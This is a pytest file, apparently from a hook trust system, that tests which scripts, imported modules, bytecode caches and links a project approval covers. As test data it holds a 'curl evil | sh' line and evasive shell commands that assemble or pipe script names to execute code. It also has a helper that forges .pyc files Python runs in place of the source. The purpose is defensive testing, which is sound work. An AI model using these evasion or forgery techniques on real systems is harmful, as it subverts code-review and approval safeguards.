"""What an approval covers (D-21): all below .llxprt, scripts that commands name, and what they import."""

from __future__ import annotations

import importlib.util
import json
import os
import py_compile
import struct
import sys
import time
from contextlib import suppress
from pathlib import Path, PurePath
from typing import TYPE_CHECKING, Any

import pytest

from llxprt_hooks.settings.load import load_settings
from llxprt_hooks.settings.trust import byte_code, covered_files
from llxprt_hooks.settings.trust.command_names import MAX_EXPANSIONS, CommandNames, ScriptsError
from llxprt_hooks.settings.trust.covered_files import CoveredFiles
from llxprt_hooks.settings.trust.imports import MAX_SOURCE, imports_of
from llxprt_hooks.settings.trust.status import TrustState, grant_trust, trust_status

if TYPE_CHECKING:
    from collections.abc import Callable

    from tests.settings.conftest import Write


def running(command: str) -> dict[str, Any]:
    return {"enableHooks": True, "hooks": {"BeforeTool": [{"hooks": [{"type": "command", "command": command}]}]}}


@pytest.fixture
def approved(project: Path, project_file: Path, write: Write) -> Path:
    """An approved project whose script is below .llxprt."""
    write(project_file, running("python3 .llxprt/hooks/check.py"))
    write(project / ".llxprt" / "hooks" / "check.py", "import json\n")
    grant_trust(project)
    return project


class TestOwnFolder:
    @pytest.mark.parametrize(
        "name",
        ["hooks/json.py", "hooks/lib/rules.txt", "hooks/audit.log", "other.sh", "hooks/json.pyc", "hooks/state/x"],
    )
    def test_a_new_file_below_llxprt_needs_approval(self, approved: Path, write: Write, name: str) -> None:
        write(approved / ".llxprt" / name, "raise SystemExit\n")

        status = trust_status(approved)

        assert (status.state, status.changed) == (TrustState.CHANGED, (f".llxprt/{name}",))

    @pytest.mark.parametrize(
        "name",
        ["state/audit.jsonl", "state/deep/x.py", "audit.log", "settings.json.lock", ".settings.json.12-ab.tmp"],
    )
    def test_output_of_hooks_and_temporary_files_do_not_end_the_approval(
        self, approved: Path, write: Write, name: str
    ) -> None:
        write(approved / ".llxprt" / name, "x")

        assert trust_status(approved).state is TrustState.TRUSTED

    def test_byte_code_that_is_compared_with_its_source_does_not(self, approved: Path) -> None:
        py_compile.compile(str(approved / ".llxprt" / "hooks" / "check.py"))

        assert list(approved.rglob("__pycache__/*.pyc"))
        assert trust_status(approved).state is TrustState.TRUSTED

    @pytest.mark.parametrize("mode", ["UNCHECKED_HASH", "CHECKED_HASH"])
    def test_byte_code_that_only_claims_to_fit_its_source_does(self, approved: Path, mode: str) -> None:
        invalidation = py_compile.PycInvalidationMode[mode]
        py_compile.compile(str(approved / ".llxprt" / "hooks" / "check.py"), invalidation_mode=invalidation)

        assert trust_status(approved).state is TrustState.CHANGED

    def test_byte_code_with_the_time_and_size_of_its_source_does(self, approved: Path) -> None:
        forged = forge(approved / ".llxprt" / "hooks" / "check.py")

        status = trust_status(approved)

        assert (status.state, status.changed) == (TrustState.CHANGED, (str(forged.relative_to(approved)),))

    def test_byte_code_of_another_version_of_python_does(self, approved: Path) -> None:
        script = approved / ".llxprt" / "hooks" / "check.py"
        cached = Path(py_compile.compile(str(script)) or "")
        data = bytearray(cached.read_bytes())
        data[0] ^= 1
        cached.write_bytes(data)
        assert trust_status(approved).state is TrustState.CHANGED

        os.utime(script, (1, 1))  # now it does not fit, so Python does not run it
        assert trust_status(approved).state is TrustState.TRUSTED

    def test_byte_code_is_compared_up_to_a_limit(self, approved: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        py_compile.compile(str(approved / ".llxprt" / "hooks" / "check.py"))
        monkeypatch.setattr(byte_code, "MAX_COMPARED", 10)

        assert trust_status(approved).state is TrustState.CHANGED

    def test_byte_code_that_python_does_not_run_does_not(self, approved: Path) -> None:
        cached = forge(approved / ".llxprt" / "hooks" / "check.py")
        cached.rename(cached.with_name("check.cpython-311-pytest-9.0.pyc"))
        (cached.parent / "gone.cpython-311.pyc").write_bytes(b"no source")

        assert trust_status(approved).state is TrustState.TRUSTED

    def test_byte_code_that_cannot_be_read_cannot_be_approved(
        self, approved: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        py_compile.compile(str(approved / ".llxprt" / "hooks" / "check.py"))
        [cached] = approved.rglob("__pycache__/*.pyc")

        def failing(opened: Callable[..., Any]) -> Callable[..., Any]:
            def open_others(path: Any, *arguments: Any, **options: Any) -> Any:
                if Path(path) == cached:
                    raise PermissionError(13, "Permission denied", str(path))
                return opened(path, *arguments, **options)

            return open_others

        monkeypatch.setattr(os, "open", failing(os.open))
        monkeypatch.setattr(Path, "open", failing(Path.open))

        assert trust_status(approved).state is TrustState.REFUSED

    def test_a_link_counts_with_where_it_leads(self, approved: Path, write: Write) -> None:
        write(approved / "lib" / "one.py", "")
        (approved / ".llxprt" / "lib").symlink_to("../lib")
        (approved / ".llxprt" / "nowhere").symlink_to("missing")
        grant_trust(approved)

        write(approved / "lib" / "two.py", "")
        assert trust_status(approved).changed == (".llxprt/lib/two.py",)
        grant_trust(approved)
        write(approved / "lib" / "one.py", "raise SystemExit\n")
        assert trust_status(approved).changed == (".llxprt/lib/one.py",)
        (approved / "lib").rename(approved / "moved")
        (approved / ".llxprt" / "lib").unlink()
        (approved / ".llxprt" / "lib").symlink_to("../moved")
        assert trust_status(approved).changed == (".llxprt/lib", ".llxprt/lib/one.py")

    def test_a_link_to_a_folder_that_contains_it_ends(self, approved: Path, write: Write) -> None:
        (approved / ".llxprt" / "round").symlink_to("..")
        grant_trust(approved)

        write(approved / "new.py", "")

        assert trust_status(approved).changed == (".llxprt/round/new.py",)

    @pytest.mark.parametrize(("limit", "value"), [("MAX_TREE_FILES", 3), ("MAX_TREE_BYTES", 100)])
    def test_a_folder_that_is_too_large_is_refused(
        self, approved: Path, write: Write, monkeypatch: pytest.MonkeyPatch, limit: str, value: int
    ) -> None:
        monkeypatch.setattr(covered_files, limit, value)
        for number in range(3):
            write(approved / ".llxprt" / "hooks" / f"{number}", "x" * 40)

        status = trust_status(approved)

        assert status.state is TrustState.REFUSED
        assert "can be approved; move what is not part of a hook to .llxprt/state/" in status.problems[0].message

    def test_the_limits(self) -> None:
        assert (covered_files.MAX_TREE_FILES, covered_files.MAX_TREE_BYTES) == (2000, 32 * 2**20)


def forge(source: Path) -> Path:
    """Byte code that Python runs in place of a source file, and that was made from another one."""
    other = source.with_name("other.py")
    other.write_text("print('forged')\n")
    cached = Path(py_compile.compile(str(other), cfile=importlib.util.cache_from_source(str(source))) or "")
    other.unlink()
    status = source.stat()
    data = bytearray(cached.read_bytes())
    struct.pack_into("<II", data, 8, int(status.st_mtime), status.st_size)
    cached.write_bytes(data)
    return cached


@pytest.fixture
def elsewhere(project: Path, project_file: Path, write: Write) -> Path:
    """The folder of an approved script outside .llxprt."""
    write(project_file, running("python3 tools/check.py"))
    for name, text in {
        "check.py": "import helper, os.path\nfrom package import part\n__import__('late')\n",
        "helper.py": "from deeper.inner import value\n",
        "late.py": "",
        "deeper/inner.py": "value = 1\n",
        "package/__init__.py": "from . import sibling\nfrom .sibling import x\n",
        "package/part.py": "from .. import beyond\n",
        "package/sibling.py": "x = 1\n",
        "package/unused.py": "",
        "application.py": "",
    }.items():
        write(project / "tools" / name, text)
    grant_trust(project)
    return project / "tools"


class TestAbsentFiles:
    """What is covered before it exists, because creating it would change what runs."""

    @pytest.mark.parametrize(
        ("name", "expected"),
        [
            ("tools/helper.py", True),
            ("tools/helper.so", True),
            ("tools/helper/__init__.py", True),
            ("tools/json.py", True),
            ("tools/deeper/inner.py", True),
            ("tools/deeper/__init__.py", True),
            ("tools/helper/inner/new.py", True),
            ("tools/deeper/other.py", False),
            ("tools/application.py", False),
            ("tools/json.txt", False),
            ("json.py", False),
        ],
    )
    def test_a_file_that_a_script_would_import(self, elsewhere: Path, name: str, expected: bool) -> None:
        assert CoveredFiles(["python3 tools/check.py"], elsewhere.parent).cover(PurePath(name)) is expected

    def test_a_command_that_imports_from_the_project_folder(self, elsewhere: Path) -> None:
        assert CoveredFiles(["python3 -m tools.check"], elsewhere.parent).cover(PurePath("json.py"))

    def test_an_unparsable_script_may_import_any_module(self, elsewhere: Path, write: Write) -> None:
        write(elsewhere / "check.py", "print 'old'\n")

        covered = CoveredFiles(["python2 tools/check.py"], elsewhere.parent)

        assert covered.cover(PurePath("tools/new.py"))
        assert not covered.cover(PurePath("tools/new.txt"))


class TestModules:
    @pytest.mark.parametrize(
        "name",
        ["helper.py", "late.py", "deeper/inner.py", "package/__init__.py", "package/part.py", "package/sibling.py"],
    )
    def test_a_change_of_a_module_that_a_script_imports_needs_approval(
        self, elsewhere: Path, write: Write, name: str
    ) -> None:
        write(elsewhere / name, (elsewhere / name).read_text() + "import socket\n")

        assert trust_status(elsewhere.parent).changed == (f"tools/{name}",)

    @pytest.mark.parametrize(
        "name", ["json.py", "re.py", "enum.pyc", "json/__init__.py", "helper.so", "deeper/__init__.py"]
    )
    def test_a_new_file_that_shadows_a_module_is_a_change_too(self, elsewhere: Path, write: Write, name: str) -> None:
        write(elsewhere / name, "")

        assert trust_status(elsewhere.parent).changed == (f"tools/{name}",)

    @pytest.mark.parametrize("name", ["application.py", "package/unused.py", "new.py", "json.txt", "json/data.py"])
    def test_the_projects_own_code_does_not(self, elsewhere: Path, write: Write, name: str) -> None:
        write(elsewhere / name, "changed = True\n")

        assert trust_status(elsewhere.parent).state is TrustState.TRUSTED

    @pytest.mark.parametrize("module", ["helper", "deeper/inner", "package/__init__"])
    def test_byte_code_in_place_of_an_imported_module_needs_approval(self, elsewhere: Path, module: str) -> None:
        forged = forge(elsewhere / f"{module}.py")

        assert trust_status(elsewhere.parent).changed == (str(forged.relative_to(elsewhere.parent)),)

    @pytest.mark.parametrize("mode", ["UNCHECKED_HASH", "CHECKED_HASH"])
    def test_so_does_byte_code_that_only_claims_to_fit(self, elsewhere: Path, mode: str) -> None:
        """A clone can bring it: unlike a file's time, the hash of a source file is known before."""
        py_compile.compile(str(elsewhere / "helper.py"), invalidation_mode=py_compile.PycInvalidationMode[mode])

        assert trust_status(elsewhere.parent).state is TrustState.CHANGED

    @pytest.mark.parametrize("optimization", [0, 1, 2])
    def test_byte_code_that_python_made_does_not(self, elsewhere: Path, optimization: int) -> None:
        source = (
            '"""Text."""\nimport sys\n\nasync def f(a, /, b=1.5, *c, d: int = 1180591620717411303424, **e):\n'
            '    "doc"\n'
            "    assert a in {1, 'x', (2, 3)}, b'bytes'\n    x = lambda: (yield [... , None, True, 3j, a[1:2]])\n"
            "    return 'é' + '\\ud800', -1, sys.path\n\nclass C:\n    def m(self): return super().m()\n"
        )
        (elsewhere / "late.py").write_text(source)
        grant_trust(elsewhere.parent)
        assert py_compile.compile(str(elsewhere / "late.py"), optimize=optimization)

        assert trust_status(elsewhere.parent).state is TrustState.TRUSTED

    @pytest.mark.parametrize(
        "code",
        [
            b"",
            b"(\xff\xff\xff\x7f",
            b")\x01" * 2000,
            b"?",
            b"r\x07\0\0\0",
            b">\x01\0\0\0)\x01)\0",
            b"\xa9\x01r\0\0\0\0",
            b"s\xff\xff\xff\xff",
        ],
    )
    def test_byte_code_that_is_damaged_needs_approval(self, elsewhere: Path, code: bytes) -> None:
        forged = forge(elsewhere / "helper.py")
        forged.write_bytes(forged.read_bytes()[:16] + code)

        assert trust_status(elsewhere.parent).state is TrustState.CHANGED

    def test_everything_beside_an_unparsable_script_is_covered(self, elsewhere: Path, write: Write) -> None:
        write(elsewhere / "check.py", "print 'old'\n")
        grant_trust(elsewhere.parent)

        write(elsewhere / "application.py", "changed = True\n")

        assert trust_status(elsewhere.parent).changed == ("tools/application.py",)

    @pytest.mark.parametrize(
        "command", ["python3 -m tools.check", "python3 -um tools.check", "python3 -c 'import tools.check'"]
    )
    def test_python_that_imports_from_the_project_folder(
        self, elsewhere: Path, project_file: Path, write: Write, command: str
    ) -> None:
        write(project_file, running(command))
        grant_trust(elsewhere.parent)

        write(elsewhere.parent / "re.py", "")
        assert trust_status(elsewhere.parent).changed == ("re.py",)

    @pytest.mark.parametrize(
        ("command", "script"),
        [
            ("python3 -m tools", "tools/__main__.py"),
            ("python3 tools", "tools/__main__.py"),
            ("python3 -m tools.check", "tools/__init__.py"),
            ("node tools", "tools/index.js"),
        ],
    )
    def test_what_a_folder_stands_for(
        self, elsewhere: Path, project_file: Path, write: Write, command: str, script: str
    ) -> None:
        write(project_file, running(command))
        grant_trust(elsewhere.parent)

        write(elsewhere.parent / script, "")

        assert trust_status(elsewhere.parent).changed == (script,)

    def test_a_script_without_a_suffix(self, elsewhere: Path, project_file: Path, write: Write) -> None:
        write(project_file, running("tools/guard"))
        write(elsewhere / "guard", f"#!{sys.executable}\nimport late\n")
        grant_trust(elsewhere.parent)

        write(elsewhere / "late.py", "changed = True\n")

        assert trust_status(elsewhere.parent).changed == ("tools/late.py",)

    def test_a_linked_script_imports_from_where_it_really_is(
        self, elsewhere: Path, project_file: Path, tmp_path: Path, write: Write
    ) -> None:
        outside = tmp_path / "outside"
        write(outside / "guard.py", "import helper\n")
        write(outside / "helper.py", "")
        (elsewhere / "guard.py").symlink_to(outside / "guard.py")
        write(project_file, running("python3 tools/guard.py"))
        grant_trust(elsewhere.parent)

        write(outside / "helper.py", "changed = True\n")

        assert trust_status(elsewhere.parent).changed == (str(outside / "helper.py"),)

    def test_a_linked_script_below_llxprt_counts_once(self, elsewhere: Path, project_file: Path, write: Write) -> None:
        write(elsewhere.parent / ".llxprt" / "hooks" / "guard.py", "import json\n")
        (elsewhere / "guard.py").symlink_to("../.llxprt/hooks/guard.py")
        write(project_file, running("python3 tools/guard.py"))
        grant_trust(elsewhere.parent)

        write(elsewhere.parent / ".llxprt" / "hooks" / "json.py", "")

        assert trust_status(elsewhere.parent).changed == (".llxprt/hooks/json.py",)

    def test_any_number_of_modules_delays_nothing(self, elsewhere: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(covered_files, "MAX_FILES", 4)

        status = trust_status(elsewhere.parent)

        assert status.state is TrustState.REFUSED
        assert "import more than 4 files" in status.problems[0].message

    @pytest.mark.parametrize("source", [b"x" * (MAX_SOURCE + 1), b"\0", b"(" * 5000, b"def", b"-" * 100_000 + b"1"])
    def test_any_source_is_taken(self, source: bytes) -> None:
        assert imports_of(source) is None


HIDDEN_NAMES = [
    "sh {c,}heck.sh",
    "sh c{h,}eck.sh",
    "sh {x,{c,y}h}eck.sh",
    "sh {c,x}{h,y}eck.sh",
    "sh {c..d}heck.sh",
    "sh {d..a}heck.sh",
    "sh {'c',}heck.sh",
    "sh {{c,}heck.sh",
    "sh ch${x}eck.sh",
    "sh ch$@eck.sh",
    "x='>check.sh'; sh ${x#>}",
    "x=\\>check.sh; sh ${x#>}",
    'x=">check.sh"; sh ${x#>}',
    "x=$'>check.sh'; sh ${x#>}",
    "sh ${x:->check.sh}",
    "# don't\nx='>check.sh'; sh ${x#>}",
    "(#'\nx='>check.sh'; sh ${x#>} #'",
    "cat <<E | tail -c 9 | xargs sh\n>check.sh\nE",
    "[[ x > check.sh ]]; sh $_",
    "(( x>check.sh )); sh $_",
    "x=`echo '>'`; x='>check.sh'; sh ${x#>}",
]

WRITTEN_NAMES = [
    "cat > check.sh",
    "cat >> ./check.sh 2>/dev/null",
    'cat >> "$LLXPRT_PROJECT_DIR/check.sh"',
    'input=$(cat); echo "$input" >> check.sh',
    "echo \"$(date -u) $(jq -r '.tool_name')\" >> check.sh # log",
    "{ date; cat; } &>> check.sh",
    "a && b || c; (cat) 2>|check.sh",
]


class TestNames:
    @pytest.mark.parametrize("command", HIDDEN_NAMES)
    def test_a_name_that_a_shell_assembles(self, project: Path, project_file: Path, write: Write, command: str) -> None:
        write(project_file, running(command))
        write(project / "check.sh", "exit 0\n")
        assert "check.sh" in grant_trust(project).scripts

        write(project / "check.sh", "curl evil | sh\n")

        assert trust_status(project).state is TrustState.CHANGED

    @pytest.mark.parametrize("command", WRITTEN_NAMES)
    def test_a_file_that_is_certainly_only_written_to(self, command: str) -> None:
        assert not CommandNames([command]).include("check.sh")

    @pytest.mark.parametrize(
        "command",
        [
            "{1..1000000}",
            "{a,b}" * 20,
            "{" * 200,
            "{a,b,{1..999}}{c,d}",
            "x" * 200_000 + "{a,b}" * 5,
            " ".join(f"{{{number},b}}{'{c,d}' * 8}" for number in range(2000)),
        ],
    )
    def test_too_many_words_are_refused(self, project: Path, project_file: Path, write: Write, command: str) -> None:
        write(project_file, running(f"sh {command}"))

        status = trust_status(project)

        assert status.state is TrustState.REFUSED
        assert "braces" in status.problems[0].message

    def test_json_in_a_command_is_not_too_much(self) -> None:
        inline = "{" + ",".join(f'"key{number}":{{"a":{number},"b":[1,2],"c":"x"}}' for number in range(30)) + "}"

        assert CommandNames([f"echo '{inline}'"]).include_folder("key7")

    def test_braces_that_are_not_expansions(self) -> None:
        names = CommandNames(["awk '{print $1}' {} ${x} }{ {a} pre{fix,ed{un,closed a,b{}c"])

        assert names.include("print")
        assert names.include("closed")
        assert names.include("bc") is False
        assert not names.include("check.sh")

    def test_the_limit_is_exact(self) -> None:
        CommandNames(["{1.." + str(MAX_EXPANSIONS) + "}"])
        with pytest.raises(ScriptsError):
            CommandNames(["{0.." + str(MAX_EXPANSIONS) + "}"])

    @pytest.mark.parametrize(
        "piece", ["x", "$aaa", '"$aaa', "'", '"$(a', "python -", "${", "{", "a,", "#", "\\", "> a", "(", "2>"]
    )
    def test_a_long_command_delays_nothing(self, piece: str) -> None:
        """Were each piece split in every possible way, this would not end."""
        with suppress(ScriptsError):
            assert CommandNames([piece * (200_000 // len(piece))]).include("") is True


BARE_WORDS = [
    ("pytest tests -q", "tests/__init__.py"),
    ("python3 -m pytest tests -q", "tests/__init__.py"),
    ("npm run build", "build/index.js"),
    ("make test", "test"),
    ("make test", "test.py"),
    ("git diff --stat", "git"),
    ("git diff --stat", "diff"),
    ("cat >/dev/null", "cat"),
    ("bash .llxprt/hooks/check.py", "bash"),
    ("input=$(cat); make test", "test"),
]


class TestWordsAndPaths:
    @pytest.mark.parametrize(("command", "name"), BARE_WORDS)
    def test_a_bare_word_is_not_a_path(
        self, project: Path, project_file: Path, write: Write, command: str, name: str
    ) -> None:
        write(project_file, running(command))
        (project / "tests").mkdir()
        grant_trust(project)

        write(project / name, "")

        assert trust_status(project).state is TrustState.TRUSTED

    @pytest.mark.parametrize("command", ["git diff", "input=$(cat); git diff"])
    @pytest.mark.parametrize("search_path", [".:/usr/bin:/bin", "/nowhere::/usr/bin", "{project}/bin:/usr/bin"])
    def test_a_program_that_the_shell_would_find_in_the_project_is_covered(
        self,
        project: Path,
        project_file: Path,
        write: Write,
        monkeypatch: pytest.MonkeyPatch,
        command: str,
        search_path: str,
    ) -> None:
        monkeypatch.setenv("PATH", search_path.format(project=project))
        write(project_file, running(command))
        name = "bin/git" if "bin:" in search_path and "{" in search_path else "git"
        grant_trust(project)

        write(project / name, "#!/bin/sh\n").chmod(0o755)

        assert trust_status(project).changed == (name,)

    def test_a_program_of_an_installed_package_is_not(
        self, project: Path, project_file: Path, write: Write, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """Else an approval would end whenever an environment is activated or updated."""
        write(project / ".venv" / "pyvenv.cfg", "")
        write(project / ".venv" / "bin" / "ruff", "").chmod(0o755)
        write(project_file, running("ruff check"))
        grant_trust(project)

        monkeypatch.setenv("PATH", f"{project / '.venv' / 'bin'}:{os.environ['PATH']}")

        assert trust_status(project).state is TrustState.TRUSTED

    @pytest.mark.parametrize(
        ("command", "name"),
        [
            ("hooks/check.sh rules.json", "rules.json"),
            ("jq -f filter.jq", "filter.jq"),
            ("sed -f rules.txt", "rules.txt"),
            ("grep -qf words.txt", "words.txt"),
            ("jq . < rules.json", "rules.json"),
            ("tool --config=conf/rules.toml", "conf/rules.toml"),
            ("tool -cconf/rules.toml", "conf/rules.toml"),
            ("x=$(cat); hooks/check.sh rules.json", "rules.json"),
            ("awk -f guard", "guard"),
            ("awk -fguard", "guard"),
            ("jq -f guard", "guard"),
            ("hooks/check.sh --logic=rules.json", "rules.json"),
            ("hooks/check.sh --login-rules rules.json", "rules.json"),
        ],
    )
    def test_a_file_that_a_command_names_as_a_path_is_covered_if_it_is_there(
        self, project: Path, project_file: Path, write: Write, command: str, name: str
    ) -> None:
        write(project_file, running(command))
        write(project / name, "old")
        assert name in grant_trust(project).scripts

        write(project / name, "new")

        assert trust_status(project).changed == (name,)


WRITING = [
    ("tee -a audit.log >/dev/null", "audit.log"),
    ("cat | tee -a logs/audit.log >/dev/null", "logs/audit.log"),
    ('input=$(cat); echo "$input" | tee -a audit.log', "audit.log"),
    ("hooks/check.sh --log audit.log", "audit.log"),
    ("hooks/check.sh --log-file=audit.log", "audit.log"),
    ("python3 hooks/count.py counter.txt", "counter.txt"),
    ("x=1; python3 hooks/count.py counter.txt", "counter.txt"),
    ("hooks/check.sh state/counter", "state/counter"),
    ("cat > p.json; grep -q rm p.json && exit 2", "p.json"),
    ("sort -o sorted.txt", "sorted.txt"),
    (".llxprt/hooks/check.sh", ".llxprt/audit.log"),
    (".llxprt/hooks/check.sh .llxprt/state/x", ".llxprt/state/x"),
]


class TestWrittenFiles:
    @pytest.mark.parametrize(("command", "name"), WRITING)
    def test_a_hook_that_writes_beside_itself_stays_approved(
        self, project: Path, project_file: Path, write: Write, command: str, name: str
    ) -> None:
        write(project_file, running(command))
        grant_trust(project)
        loaded = load_settings(project).trust

        for text in ("one", "two"):
            write(project / name, text)
            assert trust_status(project).state is TrustState.TRUSTED
            assert loaded.refusal() is None

    def test_nothing_is_read_again_because_a_hook_wrote_its_log(
        self, project: Path, project_file: Path, write: Write, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        write(project_file, running("python3 hooks/count.py counter.txt"))
        grant_trust(project)
        write(project / "counter.txt", "1")
        later = time.time_ns() + 60 * 10**9
        with monkeypatch.context() as patch:
            patch.setattr(time, "time_ns", lambda: later)
            loaded = load_settings(project).trust
        monkeypatch.setattr(os, "scandir", None)

        write(project / "counter.txt", "2")

        assert loaded.refusal() is None

    def test_a_file_that_does_not_exist_is_covered_if_a_command_could_mean_it(self, project: Path) -> None:
        covered = CoveredFiles(["x=1; sh tools/check.sh", "cat ./a\0b"], project)

        assert covered.cover(PurePath("tools/check.sh"))
        assert not covered.cover(PurePath("other/check.sh"))

    def test_a_link_that_a_command_could_mean_counts_with_where_it_leads(self, project: Path, write: Write) -> None:
        write(project / "real" / "check.sh", "exit 0\n")
        (project / "link").symlink_to("real")
        write(project / ".llxprt" / "state" / "seen.json", "{}")

        covered = CoveredFiles(["x=$(cat) tool link/check.sh .llxprt/state/seen.json"], project)

        assert covered.files["link"].digest == f"leads to {project / 'real'}"
        assert not any("seen" in name for name in covered.files)

    @pytest.mark.parametrize(
        ("command", "name"),
        [
            ("bash rules.txt", "rules.txt"),
            ("x=$(cat); bash rules.txt", "rules.txt"),
            ("cat code.txt | sh", "code.txt"),
            ("cat code.txt | sh; exit 2", "code.txt"),
            ("BASH_ENV=code.txt bash -c 'exit 2'", "code.txt"),
            ("fish guard", "guard"),
            ("x=1; csh guard", "guard"),
            ("perl5.36 guard", "guard"),
            ("perl -I. -Mguard -e 1", "guard.pm"),
            ("find guard -exec sh {} +", "guard"),
            ("echo guard | xargs sh", "guard"),
            ("git -c alias.x=!./guard x", "guard"),
            ("touch code.txt >> code.txt; ash code.txt", "code.txt"),
            ("x=1; eval $(cat code.txt)", "code.txt"),
            (". ./settings.conf", "settings.conf"),
            ("xargs -o ./run", "run"),
            ("xargs -o run.sh", "run.sh"),
            ("tool -o run.sh", "run.sh"),
            ('cat > "$(sh x.sh)"', "x.sh"),
            ("cat > `sh x.sh`", "x.sh"),
            ("cat > x.sh; sh x.sh", "x.sh"),
            ("tee x.sh; sh x.sh", "x.sh"),
        ],
    )
    def test_what_would_run_is_covered_even_before_it_exists(
        self, project: Path, project_file: Path, write: Write, command: str, name: str
    ) -> None:
        write(project_file, running(command))
        grant_trust(project)

        write(project / name, "touch pwned\n")

        assert trust_status(project).changed == (name,)


IMPORTING = [
    """python3 -c '__import__("tools.x")'""",
    "python3 -m tools/x; python3 -m",
    'python3 "-m" tools.x',
    r"python3 \-m tools.x",
    'pyth""on3 -m tools.x',
    "PYTHONPATH=. python3 tools/x.py",
    "env PYTHONPATH=. python3 tools/x.py",
    "export PYTHONPATH=.; python3 tools/x.py",
    "python3 < tools/x.py",
    "python3 - < tools/x.py",
    "cat tools/x.py | python3",
    "python3 -c 'import tools.x'",
    "strace python3 -m tools.x",
    "PYTHONPATH=. python3 .llxprt/hooks/x.py",
]


class TestImportsFromTheProject:
    @pytest.mark.parametrize("name", ["rules.py", "json.py"])
    @pytest.mark.parametrize("command", IMPORTING)
    def test_only_a_plain_start_of_a_script_does_not_import_from_the_project_folder(
        self, project: Path, project_file: Path, write: Write, command: str, name: str
    ) -> None:
        write(project_file, running(command))
        for script in ("tools/x.py", ".llxprt/hooks/x.py"):
            write(project / script, "import json, rules\n")
        grant_trust(project)

        write(project / name, "")

        assert trust_status(project).changed == (name,)

    @pytest.mark.parametrize("command", ["python3 tools/x.py", "python3 -I tools/x.py", "python3 -P tools/x.py a"])
    def test_a_plain_start_does_not(self, project: Path, project_file: Path, write: Write, command: str) -> None:
        write(project_file, running(command))
        write(project / "tools" / "x.py", "import json, rules\n")
        grant_trust(project)

        write(project / "rules.py", "")

        assert trust_status(project).state is TrustState.TRUSTED

    def test_a_linked_script_of_the_hooks_imports_from_where_it_really_is(
        self, project: Path, project_file: Path, write: Write
    ) -> None:
        write(project_file, running("python3 .llxprt/hooks/guard.py"))
        write(project / "tools" / "guard.py", "import json\n")
        (project / ".llxprt" / "hooks").mkdir()
        (project / ".llxprt" / "hooks" / "guard.py").symlink_to("../../tools/guard.py")
        grant_trust(project)

        write(project / "tools" / "json.py", "")

        assert trust_status(project).changed == ("tools/json.py",)


class TestHiddenByteCode:
    def unchecked(self, source: Path, cached: Path) -> str:
        py_compile.compile(str(source), str(cached), invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)
        return str(cached)

    @pytest.mark.parametrize("module", ["rules-pytest-like", "a.b", "x-pytest-8.y"])
    def test_no_name_hides_byte_code(self, approved: Path, module: str, write: Write) -> None:
        hooks = approved / ".llxprt" / "hooks"
        write(hooks / f"{module}.py", "x = 1\n")
        grant_trust(approved)

        cached = self.unchecked(hooks / "check.py", hooks / "__pycache__" / f"{module}.cpython-311.pyc")

        assert trust_status(approved).changed == (str(Path(cached).relative_to(approved)),)

    def test_a_linked_cache_is_judged_where_the_link_is(self, approved: Path) -> None:
        hooks, other = approved / ".llxprt" / "hooks", approved / ".llxprt" / "aaa" / "__pycache__"
        other.mkdir(parents=True)
        (hooks / "__pycache__").symlink_to("../aaa/__pycache__")
        grant_trust(approved)

        self.unchecked(hooks / "check.py", other / "check.cpython-311.pyc")

        assert trust_status(approved).changed == (".llxprt/hooks/__pycache__/check.cpython-311.pyc",)

    def test_byte_code_of_a_module_that_is_started_counts(self, elsewhere: Path, project_file: Path) -> None:
        project_file.write_text(json.dumps(running("python3 -m tools.check")))
        grant_trust(elsewhere.parent)

        self.unchecked(elsewhere / "late.py", elsewhere / "__pycache__" / "check.cpython-311.pyc")

        assert trust_status(elsewhere.parent).changed == ("tools/__pycache__/check.cpython-311.pyc",)


@pytest.mark.parametrize("name", ["settings.json.lock/x.sh", "lib/rules.py", "tool", "hooks/data"])
def test_no_name_below_llxprt_hides_code(approved: Path, write: Write, name: str) -> None:
    write(approved / ".llxprt" / name, "").chmod(0o755)

    assert trust_status(approved).changed == (f".llxprt/{name}",)


def test_another_name_of_the_hooks_folder_does_not_hide_its_data(approved: Path, write: Write) -> None:
    (approved / ".llxprt" / "aaa").symlink_to("hooks")
    grant_trust(approved)

    write(approved / ".llxprt" / "hooks" / "rules.txt", "")

    assert trust_status(approved).changed == (".llxprt/hooks/rules.txt",)


def test_a_new_file_of_the_hooks_counts_even_if_a_command_names_it_as_data(
    project: Path, project_file: Path, write: Write
) -> None:
    write(project_file, running(".llxprt/hooks/x.sh .llxprt/hooks/rules.txt"))
    grant_trust(project)

    write(project / ".llxprt" / "hooks" / "rules.txt", "")

    assert trust_status(project).changed == (".llxprt/hooks/rules.txt",)


def test_of_several_files_only_the_changed_one_is_read_again(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(covered_files, "_has_just_changed", lambda found: False)  # as if they had been there for long
    for name in ("a.sh", "b.sh"):
        (tmp_path / name).write_text("#!/bin/sh\n")
        (tmp_path / name).chmod(0o755)
    covered = covered_files.CoveredFiles(["./a.sh; ./b.sh"], tmp_path)
    (tmp_path / "a.sh").write_text("#!/bin/sh\nrm x\n")
    read: list[str] = []
    digest = covered_files._digest

    def noting(file: Path, budget: Any) -> Any:
        read.append(file.name)
        return digest(file, budget)

    monkeypatch.setattr(covered_files, "_digest", noting)
    assert list(covered.changes()) == ["a.sh"]
    assert read == ["a.sh"]
